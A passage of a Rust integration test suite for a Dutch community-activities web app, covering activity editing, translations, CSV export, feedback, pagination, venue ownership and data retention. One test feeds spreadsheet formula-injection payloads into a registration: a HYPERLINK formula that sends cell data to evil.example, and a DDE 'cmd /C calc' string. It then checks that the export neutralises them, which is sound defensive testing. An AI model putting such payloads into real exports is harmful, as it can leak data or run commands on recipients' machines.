    assert_eq!(
        count(&t.db, "SELECT COUNT(*) FROM activity_pillars").await,
        6
    );
    let id: i64 = sqlx::query_scalar("SELECT MIN(id) FROM activities")
        .fetch_one(&t.db.pool)
        .await
        .unwrap();
    assert_eq!(
        location(&ok),
        format!("/beheer/activiteiten/{id}/aanmeldingen")
    );
    // Two people registered: the capacity cannot go below that.
    queries::register(
        &t.db,
        id,
        &signup("x", None, 2, "org-key-0123456789abc"),
        "nl",
    )
    .await
    .unwrap();
    let edit = b.get(&format!("/beheer/activiteiten/{id}")).await;
    assert!(edit.body.contains(r#"value="15:00""#) && edit.body.contains("checked"));
    let lower = b
        .post(
            &format!("/beheer/activiteiten/{id}"),
            &[
                ("title", "Kinderraad"),
                ("kind", "childrens_council"),
                ("venue_id", &venue_id),
                ("date", &date),
                ("start_time", "15:00"),
                ("end_time", "16:00"),
                ("capacity", "1"),
            ],
        )
        .await;
    assert!(
        lower.body.contains("Er zijn al meer mensen aangemeld."),
        "{}",
        lower.body
    );
    // Translations show in the edit form and are kept when sent back.
    sqlx::query("INSERT INTO activity_texts (activity_id, lang, title, description) VALUES ($1, 'tr', 'Çocuk meclisi', '')")
        .bind(id)
        .execute(&t.db.pool)
        .await
        .unwrap();
    let edit = b.get(&format!("/beheer/activiteiten/{id}")).await;
    assert!(edit
        .body
        .contains(r#"value="Çocuk meclisi" lang="tr" dir="ltr""#));
    // A language inside a Dutch sentence is named in Dutch.
    assert!(
        edit.body.contains("Tekst in het Engels") && !edit.body.contains("Tekst in het English")
    );
    let saved = b
        .post(
            &format!("/beheer/activiteiten/{id}"),
            &[
                ("title", "Kinderraad Liendert"),
                ("title_tr", "Çocuk meclisi"),
                ("title_ar", "مجلس الأطفال"),
                ("kind", "childrens_council"),
                ("venue_id", &venue_id),
                ("date", &date),
                ("start_time", "15:30"),
                ("end_time", "16:30"),
                ("capacity", "5"),
            ],
        )
        .await;
    assert_eq!(saved.status, StatusCode::SEE_OTHER, "{}", saved.body);
    assert_eq!(
        count(
            &t.db,
            &format!(
                "SELECT COUNT(*) FROM activity_texts WHERE activity_id = {id} AND lang = 'tr'"
            )
        )
        .await,
        1
    );
    assert!(app
        .get(&format!("/activiteiten/{id}"))
        .await
        .body
        .contains("<h1>Kinderraad Liendert</h1>"));
    let ar = app.get(&format!("/activiteiten/{id}?lang=ar")).await.body;
    assert!(
        ar.contains("<h1>مجلس الأطفال</h1>")
            && !ar.contains(r#"<div class="kr-page-header" lang="nl" dir="ltr">"#)
    );
    assert_eq!(b.get("/beheer/activiteiten").await.status, StatusCode::OK);
    assert_eq!(
        b.get("/beheer/activiteiten/locaties").await.status,
        StatusCode::OK
    );
    let venue_bad = b
        .post(
            "/beheer/activiteiten/locaties",
            &[("name", ""), ("address", "")],
        )
        .await;
    assert!(venue_bad.body.contains("Vul een naam in"));
    let venue_ok = b
        .post(
            "/beheer/activiteiten/locaties",
            &[
                ("name", "Buurtkamer"),
                ("address", "Buurtkamer, Liendert"),
                ("step_free", "1"),
            ],
        )
        .await;
    assert!(venue_ok.body.contains("De locatie is opgeslagen."));
}

#[db_test]
async fn a_formula_in_a_name_comes_out_of_the_export_neutralised(t: TestDb) {
    let app = app(&t, Config::default()).await;
    let v = venue(&t.db).await;
    let id = create(
        &t.db,
        &activity(v, "Buurtborrel", now() + 86400 * 2, Some(10)),
    )
    .await;
    let evil = r#"=HYPERLINK("http://evil.example/?d="&A2,"Klik")"#;
    let mut s = signup(evil, Some("evil@example.nl"), 1, "csv-formula-0123456789");
    s.other_needs = "@SUM(1+1)*cmd|' /C calc'!A0".into();
    queries::register(&t.db, id, &s, "nl").await.unwrap();
    let mut b = organiser(&app, &t).await;
    let csv = b.get(&format!("/beheer/activiteiten/{id}/export")).await;
    assert_eq!(csv.status, StatusCode::OK);
    let row = csv.body.split("\r\n").nth(1).unwrap();
    assert!(
        row.starts_with(
            r#""'=HYPERLINK(""http://evil.example/?d=""&A2,""Klik"")",evil@example.nl,"#
        ),
        "{row}"
    );
    assert!(row.contains(",'@SUM(1+1)*cmd|' /C calc'!A0,"), "{row}");
    // No field of the export starts a formula.
    assert!(!csv.body.contains(",=") && !csv.body.contains(",@") && !csv.body.contains("\n="));
}

#[db_test]
async fn organisers_see_needs_export_csv_check_people_in_and_cancel_with_mail(t: TestDb) {
    let sink = MailSink::start();
    let app = app(&t, sink.config()).await;
    let v = venue(&t.db).await;
    let id = create(
        &t.db,
        &activity(v, "Film en gesprek", now() + 86400 * 3, Some(10)),
    )
    .await;
    let mut s = signup(
        "=Fatima, \"F\"",
        Some("fatima@example.nl"),
        2,
        "csv-key-0123456789abcd",
    );
    s.sign_language = true;
    s.childcare = true;
    let Registered::New { id: reg, .. } = queries::register(&t.db, id, &s, "nl").await.unwrap()
    else {
        panic!()
    };
    let mut b = organiser(&app, &t).await;
    let list = b
        .get(&format!("/beheer/activiteiten/{id}/aanmeldingen"))
        .await;
    assert_eq!(list.status, StatusCode::OK);
    assert!(list.body.contains("Een gebarentolk") && list.body.contains("Opvang voor kinderen"));
    let csv = b.get(&format!("/beheer/activiteiten/{id}/export")).await;
    assert_eq!(csv.header("content-type"), "text/csv; charset=utf-8");
    assert_eq!(csv.header("cache-control"), "no-store");
    let mut lines = csv.body.lines();
    assert!(lines
        .next()
        .unwrap()
        .starts_with("Naam,E-mail,Telefoon,Aantal,Status"));
    assert!(
        lines
            .next()
            .unwrap()
            .starts_with("\"'=Fatima, \"\"F\"\"\",fatima@example.nl,,2,Aangemeld"),
        "{}",
        csv.body
    );
    let check = b.get(&format!("/beheer/activiteiten/{id}/aanwezig")).await;
    assert!(check.body.contains("=Fatima"));
    let r = b
        .post(
            &format!("/beheer/activiteiten/{id}/aanwezig"),
            &[("registration", &reg.to_string()), ("present", "1")],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER);
    b.get(&format!("/beheer/activiteiten/{id}/aanwezig")).await;
    b.post(
        &format!("/beheer/activiteiten/{id}/aanwezig"),
        &[("walk_ins", "4")],
    )
    .await;
    assert_eq!(queries::attendance(&t.db, id).await.unwrap(), (2, 2, 4));
    let sheet = b
        .get(&format!("/beheer/activiteiten/{id}/presentielijst"))
        .await;
    assert!(
        sheet.body.contains("<svg") && sheet.body.contains(&format!("/activiteiten/{id}/feedback"))
    );
    b.get(&format!("/beheer/activiteiten/{id}/aanmeldingen"))
        .await;
    let cancel = b
        .post(&format!("/beheer/activiteiten/{id}/annuleren"), &[])
        .await;
    assert_eq!(cancel.status, StatusCode::SEE_OTHER);
    assert!(app
        .get(&format!("/activiteiten/{id}"))
        .await
        .body
        .contains("Deze activiteit gaat niet door."));
    app.run_jobs().await;
    let mails = sink.wait_for("fatima@example.nl").await;
    assert!(
        mails
            .iter()
            .any(|m| m.subject == "Gaat niet door: Film en gesprek"),
        "{mails:?}"
    );
    assert!(count(&t.db, "SELECT COUNT(*) FROM audit_log WHERE subject_type = 'activity_registrations' AND action = 'export'").await == 1);
}

#[db_test]
async fn feedback_is_anonymous_and_shown_only_from_five_answers(t: TestDb) {
    let app = app(&t, Config::default()).await;
    let v = venue(&t.db).await;
    let future = create(&t.db, &activity(v, "Later", now() + 86400, None)).await;
    let past = create(&t.db, &activity(v, "Gisteren", now() - 86400, None)).await;
    let mut b = Browser::new(&app);
    assert!(b
        .get(&format!("/activiteiten/{future}/feedback"))
        .await
        .body
        .contains("als de activiteit is begonnen"));
    let form = b.get(&format!("/activiteiten/{past}/feedback")).await;
    assert!(form
        .body
        .contains("<legend class=\"kr-legend\">Heb je iemand nieuw ontmoet?</legend>"));
    let bad = b
        .post(
            &format!("/activiteiten/{past}/feedback"),
            &[("met_someone", "yes")],
        )
        .await;
    assert!(bad.body.contains("Kies een antwoord."));
    assert!(bad.body.contains(r#"value="yes" checked"#), "answers kept");
    for n in 0..4 {
        let r = b
            .post(
                &format!("/activiteiten/{past}/feedback"),
                &[
                    ("met_someone", "yes"),
                    ("understand", "somewhat"),
                    ("come_again", if n == 0 { "no" } else { "yes" }),
                    ("comment", "Fijn"),
                ],
            )
            .await;
        assert!(r.body.contains("Dank je wel!"));
    }
    let mut o = organiser(&app, &t).await;
    let few = o
        .get(&format!("/beheer/activiteiten/{past}/aanmeldingen"))
        .await
        .body;
    assert!(
        few.contains("Te weinig antwoorden om te laten zien.") && !few.contains("<li>Fijn</li>")
    );
    b.post(
        &format!("/activiteiten/{past}/feedback"),
        &[
            ("met_someone", "no"),
            ("understand", "yes"),
            ("come_again", "yes"),
        ],
    )
    .await;
    let enough = o
        .get(&format!("/beheer/activiteiten/{past}/aanmeldingen"))
        .await
        .body;
    assert!(
        enough.contains("5 antwoorden")
            && enough.contains("<td>80%</td>")
            && enough.contains("<li>Fijn</li>"),
        "{enough}"
    );
    let figures = o.get("/beheer/activiteiten/cijfers").await.body;
    assert!(
        figures.contains("Film en gesprek: 5 antwoorden")
            && figures.contains("Omgaan met diversiteit: 5 antwoorden"),
        "{figures}"
    );
}

#[db_test]
async fn the_api_lists_activities_and_venues(t: TestDb) {
    let app = app(&t, Config::default()).await;
    let v = venue(&t.db).await;
    let id = create(
        &t.db,
        &activity(v, "Film en gesprek", now() + 86400, Some(5)),
    )
    .await;
    let list = app.get("/api/v1/activities").await.json();
    assert_eq!(list[0]["id"], id);
    assert_eq!(list[0]["kind"], "film_conversation");
    assert_eq!(list[0]["pillars"][0], "diversity");
    assert_eq!(list[0]["places_left"], 5);
    let one = app.get(&format!("/api/v1/activities/{id}")).await.json();
    assert_eq!(one["title"], "Film en gesprek");
    assert!(one["ics"]
        .as_str()
        .unwrap()
        .ends_with(&format!("/activiteiten/{id}.ics")));
    let missing = app.get("/api/v1/activities/999999").await;
    assert_eq!(missing.status, StatusCode::NOT_FOUND);
    assert_eq!(missing.header("content-type"), "application/problem+json");
    let venues = app.get("/api/v1/venues").await.json();
    assert_eq!(venues[0]["name"], "Huis van de Wijk Liendert");
    assert_eq!(venues[0]["step_free"], true);
}

#[db_test]
async fn the_demo_year_is_deterministic_and_can_run_twice(t: TestDb) {
    migrate(&t).await;
    kansrijk_activities::demo::seed(&t.db).await.unwrap();
    kansrijk_activities::demo::seed(&t.db).await.unwrap();
    assert_eq!(count(&t.db, "SELECT COUNT(*) FROM venues").await, 4);
    assert_eq!(count(&t.db, "SELECT COUNT(*) FROM activities").await, 56);
    assert_eq!(
        count(
            &t.db,
            "SELECT COUNT(*) FROM activities WHERE kind = 'childrens_council'"
        )
        .await,
        26
    );
    assert!(count(&t.db, "SELECT COUNT(*) FROM activity_feedback").await > 50);
    let app = app_with(t.db.clone(), Config::default());
    let month = app.get("/activiteiten/maand?jaar=2026&maand=12").await.body;
    assert!(month.contains("Vreedzame Kinderraad") && month.contains("Film en gesprek"));
    let arabic = app
        .get("/activiteiten/maand?jaar=2026&maand=12&lang=ar")
        .await
        .body;
    assert!(
        arabic.contains("مجلس الأطفال السلمي")
            && !arabic.contains(r#"<h3 class="kr-card__title" lang="nl" dir="ltr">"#),
        "demo texts in every language"
    );
}

#[test]
fn every_key_in_templates_and_code_is_translated() {
    let i18n = kansrijk_kernel::i18n::I18n::new(&[
        kernel_locales(),
        kansrijk_programme::locales(),
        kansrijk_activities::locales(),
    ])
    .unwrap();
    // That every language has every key of the .ftl files is checked for all crates in
    // crates/kansrijk/tests/app.rs; here: every key the code and templates name exists.
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
    let mut keys = vec![];
    let mut files = vec![];
    for dir in [
        "templates",
        "templates/beheer",
        "src",
        "src/handlers",
        "src/manage",
        "src/queries",
    ] {
        files.extend(
            std::fs::read_dir(root.join(dir))
                .unwrap()
                .flatten()
                .map(|e| e.path()),
        );
    }
    for path in &files {
        let Ok(text) = std::fs::read_to_string(path) else {
            continue;
        };
        // Every quoted literal that looks like one of our keys.
        for part in text.split('"').skip(1).step_by(2) {
            let prefixes = [
                "activity-",
                "registration-",
                "feedback-",
                "venue-",
                "venues-",
                "csv-",
                "manage-",
                "checkin-",
                "sheet-",
                "figures-",
                "agenda-",
                "month-",
                "signup-",
                "form-",
                "notice-",
                "nav-",
            ];
            if prefixes.iter().any(|p| part.starts_with(p))
                && part
                    .chars()
                    .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-')
                && !part.ends_with('-')
            {
                keys.push((path.display().to_string(), part.to_string()));
            }
        }
    }
    // And every `t("…")` call in the templates, whatever its prefix.
    for dir in ["templates", "templates/beheer"] {
        keys.extend(kansrijk_kernel::testing::template_keys(&root.join(dir)));
    }
    assert!(keys.len() > 150, "{}", keys.len());
    let built: Vec<String> = Kind::ALL
        .iter()
        .map(|k| k.key())
        .chain(AgeGroup::ALL.iter().map(|a| a.key()))
        .chain(
            [
                RegStatus::Confirmed,
                RegStatus::Waiting,
                RegStatus::Cancelled,
            ]
            .iter()
            .map(|s| s.key()),
        )
        .chain(
            kansrijk_activities::model::Answer::ALL
                .iter()
                .map(|a| a.key()),
        )
        .chain((1..=12).map(|m| format!("month-{m}")))
        .chain((1..=7).map(|d| format!("weekday-{d}")))
        .collect();
    for lang in Lang::ALL {
        for (file, key) in &keys {
            // Mail names stand for three keys each.
            let ok = i18n.has(lang, key)
                || ["subject", "body", "action"]
                    .iter()
                    .all(|p| i18n.has(lang, &format!("mail-{key}-{p}")));
            assert!(ok, "{file}: `{key}` missing in {}", lang.code());
        }
        for key in &built {
            assert!(i18n.has(lang, key), "`{key}` missing in {}", lang.code());
        }
    }
}

#[db_test]
async fn the_agenda_and_the_api_come_a_page_at_a_time_keeping_the_filters(t: TestDb) {
    let app = app(&t, Config::default()).await;
    let v = venue(&t.db).await;
    let soon = now() + 3 * 86400;
    for i in 0..65 {
        create(
            &t.db,
            &activity(v, &format!("Taalcafé nummer {i:02}"), soon + i * 3600, None),
        )
        .await;
    }
    let first = app.get("/activiteiten?gratis=1").await.body;
    assert!(first.contains("Activiteiten, pagina 1"));
    assert!(first.contains("Taalcafé nummer 00") && first.contains("Taalcafé nummer 29"));
    assert!(!first.contains("Taalcafé nummer 30"));
    assert!(
        first.contains(r#"<a href="/activiteiten?gratis=1&#38;pagina=2" rel="next">"#),
        "{first}"
    );
    assert!(!first.contains(r#"rel="prev""#));
    let third = app.get("/activiteiten?gratis=1&pagina=3").await.body;
    assert!(third.contains("Taalcafé nummer 60") && third.contains("Taalcafé nummer 64"));
    assert!(!third.contains("Taalcafé nummer 59"));
    assert!(third.contains(r#"<a href="/activiteiten?gratis=1&#38;pagina=2" rel="prev">"#));
    assert!(!third.contains(r#"rel="next""#), "no page after the last");
    let nonsense = app.get("/activiteiten?pagina=abc").await;
    assert_eq!(nonsense.status, StatusCode::OK);
    assert!(
        nonsense.body.contains("Taalcafé nummer 00"),
        "nonsense is the first page"
    );
    let beyond = app.get("/activiteiten?pagina=999").await.body;
    assert!(beyond.contains(r#"rel="prev""#) && !beyond.contains("Taalcafé"));
    let api: serde_json::Value =
        serde_json::from_str(&app.get("/api/v1/activities?limit=10&offset=60").await.body).unwrap();
    let titles: Vec<&str> = api
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["title"].as_str().unwrap())
        .collect();
    assert_eq!(titles.len(), 5);
    assert_eq!(titles[0], "Taalcafé nummer 60");
    let default: serde_json::Value =
        serde_json::from_str(&app.get("/api/v1/activities").await.body).unwrap();
    assert_eq!(default.as_array().unwrap().len(), 65);
}

/// The `<select>` named `name` in a page, from its tag to `</select>`.
fn select<'a>(body: &'a str, name: &str) -> Option<&'a str> {
    let start = body.find(&format!("name=\"{name}\""))?;
    let end = start + body[start..].find("</select>")?;
    Some(&body[start..end])
}

#[db_test]
async fn above_200_buurten_the_agenda_filter_offers_the_buurten_of_one_municipality(t: TestDb) {
    let app = app(&t, Config::default()).await;
    let v = venue(&t.db).await;
    let soon = now() + 3 * 86400;
    for i in 0..31 {
        create(
            &t.db,
            &activity(v, &format!("Buurtsoep {i:02}"), soon + i * 3600, None),
        )
        .await;
    }
    // Small scale: every buurt, no choice of municipality.
    let small = app.get("/activiteiten").await.body;
    assert!(select(&small, "gemeente").is_none());
    assert!(select(&small, "buurt").unwrap().contains("Zangvogelbuurt"));
    assert!(small.contains(r#"<a href="/activiteiten?pagina=2" rel="next">"#));
    // National scale: a second municipality with 200 buurten (205 in all).
    kansrijk_kernel::areas::import_geojson(
        &t.db,
        &kansrijk_kernel::testing::municipality_geojson("GM9999", "Testgemeente", 200),
    )
    .await
    .unwrap();
    // An import through the management page empties the page cache; this test wrote to the
    // database itself.
    app.state.page_cache.clear();
    let home = app.get("/activiteiten").await.body;
    let gemeenten = select(&home, "gemeente").expect("a municipality filter");
    assert!(
        gemeenten.contains(r#"<option value="GM0307" selected>Amersfoort</option>"#),
        "{gemeenten}"
    );
    assert!(gemeenten.contains(r#"<option value="GM9999">Testgemeente</option>"#));
    assert!(home.contains(r#"<label class="kr-form-label" for="f-gemeente">Gemeente</label>"#));
    let buurten = select(&home, "buurt").unwrap();
    assert!(
        buurten.contains("Zangvogelbuurt") && !buurten.contains("Testgemeente buurt"),
        "only Amersfoort's buurten"
    );
    assert!(
        home.contains("Buurtsoep 00"),
        "the municipality does not filter the activities"
    );

    let other = app.get("/activiteiten?gemeente=GM9999&gratis=1").await.body;
    assert!(select(&other, "gemeente")
        .unwrap()
        .contains(r#"<option value="GM9999" selected>"#));
    let buurten = select(&other, "buurt").unwrap();
    assert!(
        buurten.contains("Testgemeente buurt 000") && buurten.contains("Testgemeente buurt 199")
    );
    assert!(!buurten.contains("Zangvogelbuurt"));
    assert!(
        other.contains(
            r#"<a href="/activiteiten?gemeente=GM9999&#38;gratis=1&#38;pagina=2" rel="next">"#
        ),
        "pages keep the municipality"
    );
    assert!(
        other.contains(r#"href="/activiteiten.ics?gemeente=GM9999&#38;gratis=1""#),
        "so does the feed"
    );
    let second = app
        .get("/activiteiten?gemeente=GM9999&gratis=1&pagina=2")
        .await
        .body;
    assert!(select(&second, "gemeente")
        .unwrap()
        .contains(r#"<option value="GM9999" selected>"#));
    assert!(second.contains(r#"<a href="/activiteiten?gemeente=GM9999&#38;gratis=1" rel="prev">"#));
    assert_eq!(
        app.get("/activiteiten.ics?gemeente=GM9999").await.status,
        StatusCode::OK
    );

    // A buurt alone shows its own municipality, with the buurt chosen.
    let id: i64 = sqlx::query_scalar("SELECT id FROM areas WHERE code = 'BU99990107'")
        .fetch_one(&t.db.pool)
        .await
        .unwrap();
    let by_buurt = app.get(&format!("/activiteiten?buurt={id}")).await.body;
    assert!(select(&by_buurt, "gemeente")
        .unwrap()
        .contains(r#"<option value="GM9999" selected>"#));
    assert!(select(&by_buurt, "buurt").unwrap().contains(&format!(
        r#"<option value="{id}" selected>Testgemeente buurt 007</option>"#
    )));
    assert!(by_buurt.contains(&format!(r#"href="/activiteiten.ics?buurt={id}""#)));
    // A buurt of another municipality than the one chosen no longer filters.
    let switched = app
        .get(&format!("/activiteiten?buurt={id}&gemeente=GM0307"))
        .await
        .body;
    assert!(select(&switched, "gemeente")
        .unwrap()
        .contains(r#"<option value="GM0307" selected>"#));
    assert!(!select(&switched, "buurt").unwrap().contains(" selected"));
    assert!(
        switched.contains(r#"href="/activiteiten.ics?gemeente=GM0307""#),
        "{switched}"
    );
    assert!(switched.contains("Buurtsoep 00"));
}

#[db_test]
async fn the_activity_page_shows_its_own_venue_photo_with_its_description(t: TestDb) {
    let app = app(&t, Config::default()).await;
    let v = venue(&t.db).await;
    let other = queries::upsert_venue(
        &t.db,
        &NewVenue {
            name: "Buurthuis elders".into(),
            address: "Elders".into(),
            opening_hours: "Avond".into(),
            ..Default::default()
        },
    )
    .await
    .unwrap()
    .unwrap();
    let id = create(&t.db, &activity(v, "Filmavond", now() + 86400, None)).await;
    let without = app.get(&format!("/activiteiten/{id}")).await.body;
    assert!(!without.contains("kr-venue-photo"));
    for (venue_id, alt) in [
        (other, "Een ander gebouw"),
        (v, "Ingang van het Huis van de Wijk"),
    ] {
        sqlx::query("INSERT INTO venue_photos (venue_id, content_type, bytes, alt, updated_at) VALUES ($1, 'image/png', $2, $3, 0)")
            .bind(venue_id)
            .bind(vec![0u8; 4])
            .bind(alt)
            .execute(&t.db.pool)
            .await
            .unwrap();
    }
    app.state.page_cache.clear();
    let with = app.get(&format!("/activiteiten/{id}")).await.body;
    assert!(
        with.contains(&format!(
            r#"src="/activiteiten/locaties/{v}/foto" alt="Ingang van het Huis van de Wijk""#
        )),
        "{with}"
    );
    assert!(!with.contains("Een ander gebouw"));
}

#[db_test]
async fn an_organisation_never_overwrites_another_organisations_venue(t: TestDb) {
    let app = app(&t, Config::default()).await;
    // The school's venue of that name, made before the Huis van de Wijk's organiser arrives.
    let school =
        kansrijk_kernel::accounts::queries::create_organisation(&t.db, "Basisschool", "school")
            .await
            .unwrap();
    let theirs = queries::upsert_venue(
        &t.db,
        &NewVenue {
            name: "Gymzaal".into(),
            address: "Schoolplein 1".into(),
            organisation_id: Some(school),
            ..Default::default()
        },
    )
    .await
    .unwrap()
    .unwrap();
    let mut b = organiser(&app, &t).await;
    let own: i64 = count(
        &t.db,
        "SELECT id FROM organisations WHERE name = 'Huis van de Wijk Liendert'",
    )
    .await;
    // Our organiser gives the same name: refused beside the field, input kept, nothing changed.
    b.get("/beheer/activiteiten/locaties").await;
    let refused = b
        .post(
            "/beheer/activiteiten/locaties",
            &[("name", "Gymzaal"), ("address", "Ergens anders 2")],
        )
        .await;
    assert!(
        refused
            .body
            .contains("Een andere organisatie heeft al een locatie met deze naam."),
        "{}",
        refused.body
    );
    assert!(refused.body.contains("value=\"Ergens anders 2\""));
    let (address, owner): (String, Option<i64>) =
        sqlx::query_as("SELECT address, organisation_id FROM venues WHERE id = $1")
            .bind(theirs)
            .fetch_one(&t.db.pool)
            .await
            .unwrap();
    assert_eq!((address.as_str(), owner), ("Schoolplein 1", Some(school)));
    // Choosing the school as owner is refused too: it is not one of theirs.
    let school_id = school.to_string();
    let other = b
        .post(
            "/beheer/activiteiten/locaties",
            &[
                ("name", "Nieuwe zaal"),
                ("address", "Laan 3"),
                ("organisation_id", school_id.as_str()),
            ],
        )
        .await;
    assert!(other.body.contains("Kies een van je eigen organisaties."));
    assert_eq!(
        count(
            &t.db,
            "SELECT COUNT(*) FROM venues WHERE name = 'Nieuwe zaal'"
        )
        .await,
        0
    );
    // Their own venue of another name is saved for their organisation, and may be updated.
    for address in ["Laan 3", "Laan 4"] {
        let ok = b
            .post(
                "/beheer/activiteiten/locaties",
                &[("name", "Buurtkamer"), ("address", address)],
            )
            .await;
        assert!(ok.body.contains("De locatie is opgeslagen."));
    }
    let (address, owner): (String, Option<i64>) =
        sqlx::query_as("SELECT address, organisation_id FROM venues WHERE name = 'Buurtkamer'")
            .fetch_one(&t.db.pool)
            .await
            .unwrap();
    assert_eq!((address.as_str(), owner), ("Laan 4", Some(own)));
    // The photo form is offered for their own venue only.
    let page = b.get("/beheer/activiteiten/locaties").await.body;
    assert!(!page.contains(&format!("/beheer/activiteiten/locaties/{theirs}/foto")));
}

/// Moves an activity so that it ended `days` days ago.
async fn ended_days_ago(db: &Db, id: i64, days: i64) {
    let end = now() - days * 86_400;
    sqlx::query("UPDATE activities SET starts_at = $1, ends_at = $2 WHERE id = $3")
        .bind(end - 7200)
        .bind(end)
        .bind(id)
        .execute(&db.pool)
        .await
        .unwrap();
}

#[derive(Debug, PartialEq, sqlx::FromRow)]
struct RegistrationRow {
    name: String,
    email: Option<String>,
    phone: Option<String>,
    interpreter: i64,
    interpreter_lang: String,
    sign_language: i64,
    wheelchair: i64,
    childcare: i64,
    other_needs: String,
    people: i64,
    status: String,
    checked_in: i64,
    anonymised_at: Option<i64>,
}

async fn registration_row(db: &Db, activity: i64) -> RegistrationRow {
    sqlx::query_as(
        "SELECT name, email, phone, interpreter, interpreter_lang, sign_language, wheelchair, childcare, other_needs, \
           people, status, checked_in, anonymised_at FROM registrations WHERE activity_id = $1",
    )
    .bind(activity)
    .fetch_one(&db.pool)
    .await
    .unwrap()
}

#[db_test]
async fn registrations_are_anonymised_and_feedback_text_cleared_after_their_periods(t: TestDb) {
    let app = app(
        &t,
        Config {
            registration_retention_days: 90,
            feedback_retention_days: 365,
            ..Config::default()
        },
    )
    .await;
    let v = venue(&t.db).await;
    let old = create(&t.db, &activity(v, "Lang geleden", now() + 86400, Some(10))).await;
    let recent = create(&t.db, &activity(v, "Net geweest", now() + 86400, Some(10))).await;
    let with_needs = |key: &str| {
        let mut s = signup("Fatima Yilmaz", Some("fatima@example.nl"), 2, key);
        s.phone = Some("0612345678".into());
        s.interpreter = true;
        s.interpreter_lang = "tr".into();
        s.sign_language = true;
        s.wheelchair = true;
        s.childcare = true;
        s.other_needs = "Een stoel met leuning".into();
        s
    };
    queries::register(&t.db, old, &with_needs("retention-old-0123456789"), "nl")
        .await
        .unwrap();
    queries::register(&t.db, recent, &with_needs("retention-new-0123456789"), "nl")
        .await
        .unwrap();
    sqlx::query("UPDATE registrations SET checked_in = 1")
        .execute(&t.db.pool)
        .await
        .unwrap();
    ended_days_ago(&t.db, old, 91).await;
    ended_days_ago(&t.db, recent, 89).await;
    let untouched = registration_row(&t.db, recent).await;
    let figures = queries::attendance(&t.db, old).await.unwrap();
    for (comment, age_days) in [("Mooie film, ik ben Fatima", 366), ("Graag vaker", 364)] {
        let f = NewFeedback {
            answers: [Answer::Yes, Answer::Somewhat, Answer::No],
            comment: comment.into(),
        };
        queries::add_feedback(&t.db, old, &f, now()).await.unwrap();
        sqlx::query("UPDATE activity_feedback SET created_at = $1 WHERE comment = $2")
            .bind(now() - age_days * 86_400)
            .bind(comment)
            .execute(&t.db.pool)
            .await
            .unwrap();
    }

    kansrijk_activities::jobs::retention(app.state.clone(), NoPayload::default())
        .await
        .unwrap();

    let r = registration_row(&t.db, old).await;
    assert_eq!((r.name.as_str(), r.email, r.phone), ("", None, None));
    assert_eq!(
        (
            r.interpreter,
            r.interpreter_lang.as_str(),
            r.sign_language,
            r.wheelchair,
            r.childcare,
            r.other_needs.as_str()
        ),
        (0, "", 0, 0, 0, "")
    );
    assert_eq!(
        (r.people, r.status.as_str(), r.checked_in),
        (2, "confirmed", 1),
        "what the figures need stays"
    );
    assert!(r.anonymised_at.is_some());
    assert_eq!(queries::attendance(&t.db, old).await.unwrap(), figures);
    assert_eq!(
        registration_row(&t.db, recent).await,
        untouched,
        "still inside its period"
    );
    assert_eq!(
        (untouched.name.as_str(), untouched.other_needs.as_str()),
        ("Fatima Yilmaz", "Een stoel met leuning")
    );
    assert!(untouched.anonymised_at.is_none());
    let comments: Vec<String> =
        sqlx::query_scalar("SELECT comment FROM activity_feedback ORDER BY id")
            .fetch_all(&t.db.pool)
            .await
            .unwrap();
    assert_eq!(comments, vec!["".to_string(), "Graag vaker".to_string()]);
    assert_eq!(
        count(
            &t.db,
            "SELECT COUNT(*) FROM activity_feedback WHERE met_someone = 'yes'"
        )
        .await,
        2,
        "the answers stay"
    );
    let audit: Vec<(String, String)> =
        sqlx::query_as("SELECT subject_id, detail FROM audit_log WHERE action = 'delete'")
            .fetch_all(&t.db.pool)
            .await
            .unwrap();
    assert_eq!(
        audit,
        vec![(
            old.to_string(),
            "1 anonymised, retention period passed".to_string()
        )]
    );
    // Once done, a second run finds nothing more to do.
    kansrijk_activities::jobs::retention(app.state.clone(), NoPayload::default())
        .await
        .unwrap();
    assert_eq!(
        count(
            &t.db,
            "SELECT COUNT(*) FROM audit_log WHERE action = 'delete'"
        )
        .await,
        1
    );
}

/// Issue 23, item 3: a registrant without an account sees what is kept on their registration's
/// page and removes it there; the link then answers 404, and another registration's data was
/// never on the page.
#[db_test]
async fn a_registrant_sees_and_removes_their_own_registration_by_its_link(t: TestDb) {
    let app = app(&t, Config::default()).await;
    let v = venue(&t.db).await;
    let id = create(
        &t.db,
        &activity(v, "Buurtfeest", now() + 5 * 86400, Some(10)),
    )
    .await;
    let mut links = vec![];
    for (name, email) in [
        ("Ayşe K.", "ayse@example.nl"),
        ("Bram V.", "bram@example.nl"),
    ] {
        let mut b = Browser::new(&app);
        let page = b.get(&format!("/activiteiten/{id}")).await;
        let key = form_key(&page.body);
        let fields = [
            ("key", key.as_str()),
            ("name", name),
            ("email", email),
            ("people", "1"),
            ("other_needs", "Een stoel vooraan"),
            ("consent", "1"),
        ];
        let ok = b
            .post(&format!("/activiteiten/{id}/aanmelden"), &fields)
            .await;
        assert_eq!(ok.status, StatusCode::SEE_OTHER, "{}", ok.body);
        links.push(location(&ok).split('?').next().unwrap().to_string());
    }
    let mut b = Browser::new(&app);
    let mine = b.get(&links[0]).await;
    assert!(mine.body.contains("Wat we van je bewaren"));
    assert!(mine.body.contains("ayse@example.nl") && mine.body.contains("Een stoel vooraan"));
    assert!(!mine.body.contains("bram@example.nl"), "nobody else's data");
    let removed = b.post(&format!("{}/verwijderen", links[0]), &[]).await;
    assert_eq!(removed.status, StatusCode::OK);
    assert!(removed.body.contains("Je gegevens zijn verwijderd"));
    assert_eq!(
        count(&t.db, "SELECT COUNT(*) FROM registrations WHERE name = '' AND email IS NULL AND other_needs = '' AND status = 'cancelled'").await,
        1
    );
    // The link no longer works; neither does removing again or an unknown link.
    assert_eq!(b.get(&links[0]).await.status, StatusCode::NOT_FOUND);
    let mut other = Browser::new(&app);
    other.get(&links[1]).await;
    assert_eq!(
        other
            .post(&format!("{}/verwijderen", links[0]), &[])
            .await
            .status,
        StatusCode::NOT_FOUND
    );
    let unknown = other.post("/aanmelding/onbekend/verwijderen", &[]).await;
    assert_eq!(unknown.status, StatusCode::NOT_FOUND);
    assert_eq!(
        count(
            &t.db,
            "SELECT COUNT(*) FROM registrations WHERE email = 'bram@example.nl'"
        )
        .await,
        1,
        "the other registration stays"
    );
}

#[db_test]
